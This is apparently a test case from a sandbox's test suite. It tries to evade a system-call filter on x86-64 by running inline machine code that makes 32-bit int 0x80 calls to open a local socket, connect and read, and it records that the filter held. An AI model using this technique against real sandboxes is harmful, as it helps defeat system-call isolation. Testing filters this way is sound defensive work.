"""Makes its system calls the 32-bit way, whose numbers mean other calls than the filter thinks. (x86-64 only.)

The filter answers a call of a foreign architecture by ending the process.

Held: crashed
"""

import ctypes
import mmap
import struct

MAP_32BIT = 0x40
SOCKET, CONNECT, READ = 359, 362, 3


def attack(target):
    flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_32BIT
    memory = mmap.mmap(-1, 8192, flags=flags, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    start = ctypes.addressof(ctypes.c_char.from_buffer(memory))
    # push rbx; mov eax, edi; mov ebx, esi; xchg ecx, edx; int 0x80; pop rbx; ret   (number, a, b, c → rcx is c)
    code = b"\x53\x89\xf8\x89\xf3\x87\xca\xcd\x80\x5b\xc3"
    memory[: len(code)] = code
    call = ctypes.CFUNCTYPE(ctypes.c_int, *[ctypes.c_uint] * 4)(start)
    address = struct.pack("<H", 2) + struct.pack(">H", target["port"]) + bytes([127, 0, 0, 1]) + bytes(8)
    memory[4096 : 4096 + len(address)] = address
    number = call(SOCKET, 2, 1, 0)
    if number < 0 or call(CONNECT, number, start + 4096, 16) < 0:
        return None
    got = call(READ, number, start + 5000, 100)
    return memory[5000 : 5000 + got] if got > 0 else None
